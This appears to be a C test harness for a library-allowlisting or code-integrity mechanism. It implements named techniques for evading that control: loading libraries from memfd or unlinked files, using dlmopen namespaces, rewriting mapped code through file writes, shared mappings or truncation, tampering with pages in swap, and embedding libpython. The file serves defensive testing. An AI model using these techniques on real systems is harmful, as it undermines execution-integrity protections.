/* SPDX-License-Identifier: Apache-2.0 */
/* Libraries: unlisted ones, and authorised ones that change under execution. */
#include "attack.h"
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#ifdef STATIC
long demo_offset(const char *library) { errno = ENOSYS; return -1; }
const struct technique library_techniques[] = { {} };
#else

long demo_offset(const char *library)
{
	void *h = dlopen(library, RTLD_NOW);
	void *f = h ? dlsym(h, "rw_demo") : NULL;
	Dl_info i;
	if (!f || !dladdr(f, &i)) {
		fprintf(stderr, "%s\n", dlerror());
		errno = ELIBACC;
		return -1;
	}
	/* the demo library is linked so that file offsets are addresses */
	long off = (char *)f - (char *)i.dli_fbase;
	dlclose(h);
	return off;
}

static int load(const char *path, Lmid_t ns)
{
	void *h = ns == LM_ID_BASE ? dlopen(path, RTLD_NOW) : dlmopen(ns, path, RTLD_NOW);
	if (h)
		return 0;
	fprintf(stderr, "%s\n", dlerror());
	return ELIBACC;
}

static int plain(char **a) { return load(a[0], LM_ID_BASE); }
static int other_namespace(char **a) { return load(a[0], LM_ID_NEWLM); }

static int copy_to(int out, const char *path)
{
	char buf[65536];
	ssize_t n;
	int in = open(path, O_RDONLY);
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, n) != n)
			return -1;
	close(in);
	return n ? -1 : 0;
}

static int load_fd(int fd)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return load(path, LM_ID_BASE);
}

static int from_memfd(char **a)
{
	int fd = memfd_create("lib", 0);
	if (fd < 0 || copy_to(fd, a[0]))
		return failed("memfd_create");
	return load_fd(fd);
}

static int from_unlinked(char **a)
{
	int fd = open(a[0], O_RDONLY);
	if (fd < 0 || unlink(a[0]))
		return failed(a[0]);
	return load_fd(fd);
}

/* a[0]: a copy of the demo library to map, a[1]: the name to write to, often the same. */
struct change {
	int early;  /* opened for writing before it was mapped */
	int mapped; /* written by a shared mapping */
	int truncate;
};

static int change(char **a, struct change how)
{
	long off = demo_offset(a[0]), in = off % PAGE;
	char code[CODE_LEN];
	if (off < 0)
		return ELIBACC;
	put_code(code);
	int w = -1;
	char *m = NULL;
	if (how.early) {
		w = open(a[1], O_RDWR);
		if (w < 0)
			return failed("open for writing");
		if (how.mapped) {
			m = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, w, off - in);
			if (m == MAP_FAILED)
				return failed("mmap for writing");
			close(w);
		}
	}
	int fd = open(a[0], O_RDONLY);
	char *p = fd < 0 ? MAP_FAILED : mmap(NULL, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, off - in);
	if (p == MAP_FAILED)
		return failed("mmap for execution");
	if (how.truncate) {
		/* shrink and grow again: the page comes back empty and is then filled */
		struct stat st;
		if (fstat(fd, &st) || truncate(a[1], off - in) || truncate(a[1], st.st_size))
			return failed("truncate");
	}
	if (!how.early) {
		w = open(a[1], O_RDWR);
		if (w < 0)
			return failed("open for writing");
	}
	if (m)
		memcpy(m + in, code, sizeof(code));
	else if (pwrite(w, code, sizeof(code), off) != sizeof(code))
		return failed("pwrite");
	return call(p + in);
}

static int old_fd(char **a) { return change(a, (struct change){ .early = 1 }); }
static int old_map(char **a) { return change(a, (struct change){ .early = 1, .mapped = 1 }); }
static int new_fd(char **a) { return change(a, (struct change){}); }
static int truncated(char **a) { return change(a, (struct change){ .early = 1, .truncate = 1 }); }

/*
 * The page with the code is pushed out to swap, changed there and fetched
 * again. a[0]: where to put a copy of the demo library on tmpfs, a[1]: the file
 * below the loop device that is swapped to, a[2]: memory.reclaim of our cgroup,
 * a[3]: the demo library. The library is mapped, and so judged, before.
 */
static int swapped(char **a)
{
	static char disk[32 << 20];
	int fd = open(a[0], O_RDWR | O_CREAT | O_EXCL, 0755), below = open(a[1], O_RDWR);
	if (fd < 0 || below < 0 || copy_to(fd, a[3]))
		return failed("copy");
	close(fd);
	long off = demo_offset(a[0]), in = off % PAGE;
	fd = off < 0 ? -1 : open(a[0], O_RDONLY);
	char *p = mmap(NULL, PAGE, PROT_READ | PROT_EXEC, MAP_SHARED, fd, off - in), copy[PAGE];
	if (p == MAP_FAILED)
		return failed("mmap");
	memcpy(copy, p, PAGE);
	for (int i = 0; i < 40; i++) {
		unsigned char there = 1;
		int reclaim = open(a[2], O_WRONLY);
		if (reclaim < 0)
			return failed(a[2]);
		/* it says EAGAIN if it got less than it was asked for: that is fine */
		if (write(reclaim, "64M", 3) < 0 && errno != EAGAIN)
			return failed("reclaim");
		close(reclaim);
		usleep(50000);
		ssize_t n = pread(below, disk, sizeof(disk), 0);
		char *at = n <= 0 || mincore(p, PAGE, &there) || there & 1 ? NULL : memmem(disk, n, copy, PAGE);
		if (!at)
			continue;
		/* the page may have been out before, to another place: change every copy */
		for (; at; at = memmem(at, disk + n - at, copy, PAGE)) {
			put_code(at + in);
			if (pwrite(below, at, PAGE, at - disk) != PAGE)
				return failed("pwrite");
		}
		if (!call(p + in))
			return 0; /* else it came back, read ahead, before it was changed: once more */
	}
	errno = EAGAIN;
	return failed("the page did not go to swap");
}

/* a[0]: libpython, a[1]: a script. The process becomes an interpreter without being one. */
static int python(char **a)
{
	void *h = dlopen(a[0], RTLD_NOW | RTLD_GLOBAL);
	int (*run)(int, char **) = h ? (int (*)(int, char **))dlsym(h, "Py_BytesMain") : NULL;
	char *argv[] = { "python3", a[1], NULL };
	if (run)
		return run(2, argv);
	fprintf(stderr, "%s\n", dlerror());
	return ELIBACC;
}

const struct technique library_techniques[] = {
	{ "dlopen", plain },
	{ "libpython", python },
	{ "swapped", swapped },
	{ "dlmopen", other_namespace },
	{ "dlopen-memfd", from_memfd },
	{ "dlopen-unlinked", from_unlinked },
	{ "change-old-fd", old_fd },
	{ "change-old-map", old_map },
	{ "change-new-fd", new_fd },
	{ "change-truncate", truncated },
	{},
};
#endif
